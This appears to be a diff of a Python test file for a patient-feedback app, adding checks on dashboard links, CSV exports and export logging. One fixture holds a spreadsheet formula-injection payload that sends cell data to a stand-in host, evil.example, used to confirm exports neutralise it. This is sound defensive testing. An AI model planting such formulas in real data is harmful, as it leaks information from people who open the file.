@@ -1,6 +1,7 @@
 """Dashboards, the report, exports and the visit import pages, through the test client."""
 from __future__ import annotations
 
+import csv
 import io
 import re
 
@@ -31,12 +32,28 @@ def with_data(app, tenant):
 
 
 def test_overview_shows_figures_linked_to_the_journal(app, tenant, manager_client, with_data):
+    from html import unescape
+
+    add_responses(app, tenant.id, [{"nps": 9, "at": at("2025-04-02 09:00"), "comment": "April, not March",
+                                    "risk": "at_risk"}])
     page = manager_client.get(tenant.url("dashboard?period=2025-03"))
     assert page.status_code == 200
     html = page.get_data(as_text=True)
     # NPS of (10, 2): 1 promoter, 1 detractor → 0.
-    assert 'class="stat" href="/c/alpha/journal?period_from=2025-03-01&amp;period_to=2025-03-31">0<' in html
-    assert "nps_band=detractor" in html and "risk=critical" in html
+    assert re.search(r'class="stat" href="[^"]+">0<', html)
+
+    def behind(pattern: str) -> set[str]:
+        """The comments the journal shows behind the link matching ``pattern``."""
+        href = unescape(re.search(r'href="([^"]+)"[^>]*>' + pattern, html)[1])
+        journal = manager_client.get(href).get_data(as_text=True)
+        return {c for c in ("Wonderful doctor", "Rude reception", "April, not March") if c in journal}
+
+    # Every figure's link opens the answers it counts: the period's, and only those of its band.
+    assert behind("0<") == {"Wonderful doctor", "Rude reception"}
+    assert behind("Detractors") == {"Rude reception"}
+    assert behind("Promoters") == {"Wonderful doctor"}
+    assert behind("1<") == {"Rude reception"}  # at risk or critical: the critical one
+    assert behind("1 critical") == {"Rude reception"}
     assert "<svg" in html and "<title id=\"trend-nps-t\">" in html
     assert 'aria-current="page"' in html  # the nav lists the dashboard
 
@@ -92,6 +109,20 @@ def test_report_page_and_exports(app, tenant, manager_client, with_data):
     assert "nps,0.0" in csv_text
     responses = manager_client.get(tenant.url("export/responses.csv?period=2025-03")).get_data(as_text=True)
     assert responses.count("\n") == 3 and "Rude reception" in responses
+    # A patient's words never run as a spreadsheet formula, and taking them out is in the access log.
+    add_responses(app, tenant.id, [{"nps": 1, "at": at("2025-03-09 09:00"),
+                                    "comment": '=HYPERLINK("http://evil.example/?x="&A1,"click")'}])
+    rows = list(csv.reader(io.StringIO(manager_client.get(tenant.url("export/responses.csv?period=2025-03"))
+                                       .get_data(as_text=True).lstrip("\ufeff"))))
+    comments = {row[-1] for row in rows[1:]}
+    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in comments and "Rude reception" in comments
+    with app.app_context(), tenant_scope(tenant.id):
+        from app.models import AccessLog
+
+        logged = db.session.scalars(select(AccessLog).where(AccessLog.subject_type == "period_export")).all()
+    assert [(e.action, e.subject_id, e.details["file"], e.details["rows"]) for e in logged] == \
+        [("export", "2025-03", "responses.csv", 2), ("export", "2025-03", "responses.csv", 3)]
+    assert "responses.csv for 2025-03" in manager_client.get(tenant.url("settings/access-log")).get_data(as_text=True)
     cards = manager_client.get(tenant.url("export/scorecards.csv?period=2025-03")).get_data(as_text=True)
     assert "doctor,Dr House,nps,2,,,,1" in cards
 
